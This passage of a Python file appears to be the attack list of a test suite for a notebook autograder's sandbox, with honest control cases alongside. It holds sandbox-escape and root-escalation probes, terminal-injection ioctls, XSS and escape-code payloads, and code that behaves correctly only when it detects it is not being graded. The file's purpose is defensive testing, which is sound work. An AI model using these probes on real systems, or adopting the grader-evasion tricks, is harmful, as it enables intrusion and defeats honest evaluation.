    Attack("name-spaces", "make name spaces, mounts and a new root", first="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: libc.unshare(0x10000000), lambda: libc.unshare(0x00020000),
             lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), lambda: libc.chroot(b"/tmp"),
             lambda: libc.setns(0, 0), lambda: libc.umount2(b"/course", 2),
             lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)):
    if call() >= 0:
        print("CANARY" "-names-0")
"""),
    Attack("keys", "use the kernel's key rings, bpf, io_uring and userfaultfd", first="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in (248, 249, 250, 321, 323, 425, 298, 175, 246):
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
        print("CANARY" "-kernel-0", number)
"""),
    Attack("become-root", "become root", first="""
import ctypes, os, subprocess
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
             lambda: os.chown("/tmp", 0, 0), lambda: os.mknod("/tmp/disk", 0o60600, 0x800)):
    try:
        call()
        print("CANARY" "-root-0")
    except OSError as error:
        print(error)
for command in ("su", "sudo", "mount", "newgrp"):
    try:
        done = subprocess.run([command, "-c", "id"], capture_output=True, timeout=1,
                              stdin=subprocess.DEVNULL)
        print(done)
        if b"uid=0" in done.stdout:
            print("CANARY" "-root-0")
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
"""),
    Attack("terminal", "type into the TA's terminal", first="""
import fcntl, os
for number in range(256):
    try:
        fcntl.ioctl(number, 0x5412, b"x")
        print("CANARY" "-terminal-0")
    except OSError:
        pass
try:
    os.open("/dev/tty", os.O_RDWR)
    print("CANARY" "-terminal-0")
except OSError as error:
    print(error)
"""),
]

# timing and order ---------------------------------------------------------------------------------
TIMING = [
    Attack("by-call-count", "answer rightly from the second call on", must="starts anew each time",
           double="calls = []\n" + unsolved(
               "calls.append(1)\nreturn 2 * x if len(calls) > 2 else None")),
    Attack("by-file", "count calls in a file that outlives the process", double="""
import os, pathlib
def double(x):
    seen = pathlib.Path("/tmp/calls")
    seen.write_text((seen.read_text() if seen.exists() else "") + "x")
    return None
"""),
    Attack("sniff-the-grader", "behave well only where it is not graded", must=NOTHING,
           double=unsolved("""
import os, sys
graded = "autograder." in str(sys.argv) + str(sys.orig_argv)
return None if graded else 2 * x
""")),
    Attack("replay", "answer with what it was asked last time", must=SENDS, double="""
last = [None]
def double(x):
    answer, last[0] = last[0], x
    return answer
"""),
    Attack("slow-cells", "use up the time of the whole notebook", points=2, must=BURNS,
           file=notebook(lambda b: b.cells.extend(
               new_code_cell("import time; time.sleep(3600)") for _ in range(8)))),
]

# what others will see -----------------------------------------------------------------------------
SCRIPT = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
SHOWN = [
    Attack("script-in-output", "print a script", must="shows as text",
           first=f"print({SCRIPT!r})"),
    Attack("script-displayed", "display HTML, JavaScript and SVG", must="shows no script",
           first=f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
script = {SCRIPT!r}
display(HTML(script), Javascript("alert(1)"), Markdown(script),
        SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
"""),
    Attack("script-in-markdown", "write a script into a text cell", must="shows as text",
           file=notebook(lambda b: b.cells.append(new_markdown_cell(SCRIPT)))),
    Attack("escape-codes", "write terminal codes into outputs and errors", must="shows as text",
           first="print('\\x1b]0;owned\\x07\\x1b[2J\\u202e')\nraise ValueError('\\x1b[2J')"),
    Attack("lone-surrogate", "print half a surrogate pair", must="is graded as it is",
           first="print('\\ud800')", double=unsolved("return chr(0xD800)")),
]
# and the honest, who must lose nothing ------------------------------------------------------------
def _copied_cells(book):
    book.cells += [nbformat.from_dict(c) for c in book.cells]


def _deleted_test(book):
    book.cells.remove(graded_cell(book))


def _wrong_kernel(book):
    book.metadata["kernelspec"] = {"name": "python310", "display_name": "Old", "language": "python"}


def _moved(book):
    book.cells.sort(key=lambda c: c.cell_type)


def _same_ids(book):
    for cell in book.cells:
        cell["id"] = "same"


def _version_3(raw):
    book = nbformat.reads(raw.decode(), as_version=4)
    return nbformat.writes(nbformat.convert(book, 3), version=3).encode()


KEEPS = "keeps all points"


def _honest(name, tries, **more):
    return Attack(name, tries, **{"must": KEEPS, "points": 5, "honest": True, **more})


HONEST = [
    _honest("honest", "hand in right answers"),
    _honest("honest-warning", "write warnings to stderr",
            last="import sys, warnings\nwarnings.warn('old')\nprint('x', file=sys.stderr)"),
    _honest("honest-print", "leave prints behind", last="print('debugging', double)"),
    _honest("honest-plot", "draw", last="%matplotlib inline\nimport matplotlib.pyplot as plt\n"
                                        "plt.plot([1, 2])\nplt.show()"),
    _honest("honest-scratch", "leave a scratch cell that fails", first="undefined_name + 1"),
    _honest("honest-shell", "use shell commands and magics", last="!ls /tmp\n%timeit -n1 -r1 1+1"),
    _honest("honest-input", "ask for input", last="input('continue?')"),
    _honest("honest-hang", "leave a cell that hangs", last="while True:\n    pass"),
    _honest("honest-exit", "leave a cell that exits", last="exit()"),
    _honest("honest-crash", "have one function that crashes", points=2,
            must="loses that function only", double=unsolved("return 1 / 0")),
    _honest("honest-endless", "have one function that hangs", points=2,
            must="loses that function only", double=unsolved("while True:\n    pass")),
    _honest("honest-copied", "copy every cell", file=notebook(_copied_cells)),
    _honest("honest-deleted", "delete a test cell", file=notebook(_deleted_test)),
    _honest("honest-kernel", "use a kernel of another name", file=notebook(_wrong_kernel)),
    _honest("honest-moved", "move cells about", file=notebook(_moved)),
    _honest("honest-ids", "have the same id on every cell", file=notebook(_same_ids)),
    _honest("honest-old", "use notebook format 3", points=2,
            must="is read; the names of its cells are gone", file=_version_3),
    _honest("honest-mark", "start the file with a byte order mark",
            file=lambda raw: b"\xef\xbb\xbf" + raw),
]

ATTACKS = [*READING, *PATCHING, *FORGING, *EVIL, *ENDING, *FLOODS, *CHANNEL, *FILES, *KERNEL,
           *TIMING, *SHOWN, *HONEST]
